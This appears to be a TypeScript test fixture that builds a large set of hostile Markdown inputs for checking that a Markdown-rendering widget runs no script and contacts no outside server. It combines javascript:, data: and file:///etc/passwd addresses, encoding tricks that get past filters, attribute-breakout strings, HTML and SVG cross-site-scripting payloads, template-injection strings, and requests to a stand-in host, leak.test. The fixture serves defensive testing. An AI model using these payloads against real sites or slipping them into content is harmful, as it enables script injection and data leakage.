/** Calls that would show that a text has run. */
const CALLS = ['window.ran=1', 'alert(1)', "fetch('https://leak.test/')"];
/** Addresses that run, or that ask another server, if a browser follows them or loads them. */
const ADDRESSES = [
  ...CALLS.map((call) => `javascript:${call}`),
  'JaVaScRiPt:window.ran=1',
  'java\tscript:window.ran=1',
  '\u0001javascript:window.ran=1',
  '&#106;avascript:window.ran=1',
  'javascript&colon;window.ran=1',
  'javascript:%77indow.ran=1',
  'javascript://leak.test/%0Awindow.ran=1',
  'data:text/html,<script>window.ran=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=window.ran=1>',
  'vbscript:window.ran=1',
  'blob:https://leak.test/1',
  'file:///etc/passwd',
  'view-source:https://leak.test/',
  '//leak.test/x',
  'https:leak.test/x',
  'https://leak.test/x" onmouseover="window.ran=1',
  "https://leak.test/x' onfocus='window.ran=1' autofocus='",
  'https://leak.test/`onload=window.ran=1`',
];
/** Where Markdown takes an address. */
const PLACES: ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `![a](${address})`,
  (address) => `[![a](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[a]: ${address}\n\n[a] ![a]`,
];
const MARKUP = [
  '<script>window.ran=1</script>',
  '<script src=https://leak.test/x.js></script>',
  '<img src=x onerror=window.ran=1>',
  '<img src=https://leak.test/x.png>',
  '<svg onload=window.ran=1>',
  '<svg><script>window.ran=1</script></svg>',
  '<svg><a xlink:href=javascript:window.ran=1><text>a</text></a></svg>',
  '<math><mtext><style><img src=x onerror=window.ran=1></style></mtext></math>',
  '<iframe src=javascript:window.ran=1></iframe>',
  '<iframe srcdoc="<script>window.ran=1</script>"></iframe>',
  '<object data=https://leak.test/x></object>',
  '<embed src=https://leak.test/x>',
  '<base href=https://leak.test/>',
  '<link rel=stylesheet href=https://leak.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://leak.test/">',
  '<style>@import url(https://leak.test/x.css);</style>',
  '<form action=https://leak.test/><button>a</button></form>',
  '<input autofocus onfocus=window.ran=1>',
  '<details open ontoggle=window.ran=1>',
  '<video src=https://leak.test/x onerror=window.ran=1>',
  '<audio autoplay src=https://leak.test/x>',
  '<body onload=window.ran=1>',
  '<div style="background:url(https://leak.test/x)">a</div>',
  '<a href=javascript:window.ran=1>a</a>',
  '<template><img src=x onerror=window.ran=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<!--><img src=x onerror=window.ran=1>-->',
  '<![CDATA[<img src=x onerror=window.ran=1>]]>',
  '<?xml-stylesheet href="https://leak.test/x.css"?>',
  '&lt;img src=x onerror=window.ran=1&gt;',
  '&#60;script&#62;window.ran=1&#60;/script&#62;',
  '<\u0000script>window.ran=1</script>',
];
/** Where Markdown takes a text. */
const AROUND: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `**${markup}** [${markup}](https://a.test "${markup}")`,
  (markup) =>
    `\`\`\`${markup}\n${markup}\n\`\`\`\n\n> # ${markup}\n\n| ${markup} | b |\n|---|---|\n| ${markup} | *b* |`,
];
const OTHERS = [
  '```js" onmouseover="window.ran=1\na\n```',
  '```"><img src=x onerror=window.ran=1>\na\n```',
  '1" onfocus="window.ran=1. a',
  '[__proto__](javascript:window.ran=1)\n\n[__proto__]: javascript:window.ran=1',
  '{{constructor.constructor("window.ran=1")()}} *a*',
  '${window.ran=1} *a*',
];

/** Texts that would run, or ask another server, in a widget that trusts Markdown. */
export const HOSTILE_MARKDOWN = [
  ...ADDRESSES.flatMap((address) => PLACES.map((place) => place(address))),
  ...MARKUP.flatMap((markup) => AROUND.map((around) => around(markup))),
  ...OTHERS,
];
